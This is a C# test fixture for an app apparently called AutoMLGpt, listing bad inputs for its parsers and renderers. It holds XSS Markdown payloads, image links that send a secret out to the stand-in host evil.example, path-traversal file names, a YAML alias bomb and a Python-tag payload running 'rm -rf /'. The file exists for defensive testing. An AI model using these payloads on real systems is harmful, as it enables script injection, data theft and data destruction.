using System.Text;

namespace AutoMLGpt.Tests.Fakes;

/// <summary>
/// The bad-input corpus of the reliability plan (rows 13, 14, 17-26, 30): hostile Markdown, card text, CSV files,
/// file names and YAML. The corpus test feeds every entry to its parser or renderer; the browser test renders the
/// Markdown in a real page with dialog and request listeners.
/// </summary>
public static class BadInputs
{
    /// <summary>The host every exfiltration payload points at; no request may ever reach it.</summary>
    public const string EvilHost = "evil.example";

    public static readonly IReadOnlyList<string> Markdown =
    [
        "<script>window.__xss=1;alert(1)</script>",
        "<img src=x onerror=\"window.__xss=1;alert(1)\">",
        "<svg onload=alert(1)></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](java\tscript:alert(1))",
        "[click]( javascript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<javascript:alert(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        $"![exfiltrate](https://{EvilHost}/?q=secret)",
        $"![t][ref]\n\n[ref]: https://{EvilHost}/ref.png",
        $"[ok link](https://{EvilHost}/page)", // a plain link is allowed: it does nothing until clicked
        $"<https://{EvilHost}/autolink>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<style>body{background:url(https://evil.example/css)}</style>",
        "```html\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        new string('>', 10_000) + " deep quote",
        new string('[', 10_000) + "deep link" + new string(']', 10_000),
        string.Concat(Enumerable.Repeat("- ", 5_000)) + "deep list",
        new string('*', 50_000),
    ];

    /// <summary>A 5 MB model reply: long lines of Markdown with a payload at the end.</summary>
    public static string HugeMarkdown() =>
        new StringBuilder().Insert(0, "| col | value |\n|---|---|\n| x | **bold** [a](https://example.org) |\n", 80_000).Append("<script>alert(1)</script>").ToString();

    /// <summary>Card text that must be refused (control, bidi) or kept exactly (zero-width, emoji, other scripts).</summary>
    public static readonly IReadOnlyList<(string Text, bool Refused)> CardText =
    [
        ("a\0b", true), ("bell\a", true), ("esc\u001b[31m", true), ("rtl \u202Eoverride", true), ("isolate \u2066x\u2069", true),
        ("zero\u200Bwidth", false), ("emoji 🧪📈", false), ("Ünïcödé 数据集 مجموعة", false), ("quotes \"'` <b>", false),
    ];

    /// <summary>CSV files and the words their error must contain (null: must read).</summary>
    public static readonly IReadOnlyList<(string Name, byte[] Bytes, string? Error)> Csv =
    [
        ("empty", [], "empty"),
        ("header only", "a,b,label\n"u8.ToArray(), "no data rows"),
        ("header and blank lines", "a,b,label\n\n\n\n"u8.ToArray(), "no data rows"),
        ("ragged rows", "a,b,label\n1,2,x\n1,2\n"u8.ToArray(), "Row 3"),
        ("unclosed quote", "a,b,label\n1,\"open,x\n"u8.ToArray(), "quote"),
        ("duplicate headers", "a,a,label\n1,2,x\n"u8.ToArray(), "unique"),
        ("latin-1 byte", [.. "name,label\ncaf"u8.ToArray(), 0xE9, .. ",x\n"u8.ToArray()], "UTF-8"),
        ("utf-16 with BOM", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("a,label\n1,x\n2,y\n")], null), // read, with a notice (asserted below)
        ("png renamed", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52], "PNG image"),
        ("xlsx renamed", [.. "PK"u8.ToArray(), 3, 4, 20, 0, 6, 0], "export it as CSV"),
        ("10k+1 columns", Encoding.UTF8.GetBytes(string.Join(",", Enumerable.Range(0, 10_001).Select(i => $"c{i}")) + "\n" + string.Join(",", Enumerable.Range(0, 10_001).Select(_ => "1")) + "\n"), "columns"),
        ("quoted newline", "a,note,label\n1,\"two\nlines\",x\n2,plain,y\n"u8.ToArray(), null),
        ("unquoted decimal comma", "a,label\n1,5,x\n2,y\n"u8.ToArray(), "Row 2"),
        ("mixed types", "a,label\nN/A,x\n#N/A,y\n\"1,5\",x\n1e309,y\n,x\n2,y\n3,x\n"u8.ToArray(), null), // read; the profile says what it saw
        ("1 MB cell", Encoding.UTF8.GetBytes("a,label\n" + new string('x', 1_000_000) + ",y\n2,x\n"), null),
        ("bom utf-8", [0xEF, 0xBB, 0xBF, .. "a,label\n1,x\n2,y\n"u8.ToArray()], null),
    ];

    /// <summary>File names a browser may send; none may become a path.</summary>
    public static readonly IReadOnlyList<string> FileNames =
    [
        "../../app.db", "..\\..\\app.db", "/etc/passwd", "CON", "NUL.csv", "a/b\\c.csv", new string('a', 300) + ".csv",
        "evil\u202Egpj.csv", "name\0.csv", "", " ", "😀.csv", "data.csv:stream",
    ];

    /// <summary>YAML front matter that must fail with a specific message (or, with null, parse safely).</summary>
    public static readonly IReadOnlyList<(string Name, string Text, string? Error)> Yaml =
    [
        ("alias bomb", "---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n" +
            string.Join("\n", Enumerable.Range(0, 9).Select(i => $"{(char)('b' + i)}: &{(char)('b' + i)} [{string.Join(",", Enumerable.Repeat($"*{(char)('a' + i)}", 9))}]")) + "\n---\n", "anchors"),
        ("100k open brackets", "---\na: " + new string('[', 100_000) + "\n---\n", "deeper"),
        ("python tag", "---\npretty_name: !!python/object/apply:os.system [\"rm -rf /\"]\n---\n", null),
        ("duplicate keys", "---\npretty_name: a\npretty_name: b\n---\n", "twice"),
        ("samples not a number", "---\npretty_name: a\nautoml_gpt:\n  data_card:\n    samples: fast\n---\n", "whole number"),
        ("unknown task", "---\npretty_name: a\nautoml_gpt:\n  data_card:\n    task: Clustering\n---\n", "not one of"),
        ("bom and crlf", "\uFEFF---\r\npretty_name: CRLF card\r\n---\r\nbody\r\n", null),
        ("no closing", "---\npretty_name: a\n", "never ends"),
        ("5 MB front matter", "---\npretty_name: " + new string('x', 5_000_000) + "\n---\n", "at most"),
        ("1 MB name in 300 KB front matter", "---\npretty_name: " + new string('n', 300_000) + "\n---\n", "at most"),
        ("long name under the limits", "---\npretty_name: " + new string('n', 5_000) + "\n---\n", null),
        ("empty key", "---\n\t- : :\n---\n", "key is empty"),
        ("broken flow", "---\na: {b: [c, d}\n---\n", "not valid"),
        ("not a mapping", "---\n- a\n---\n", "mapping"),
    ];
}
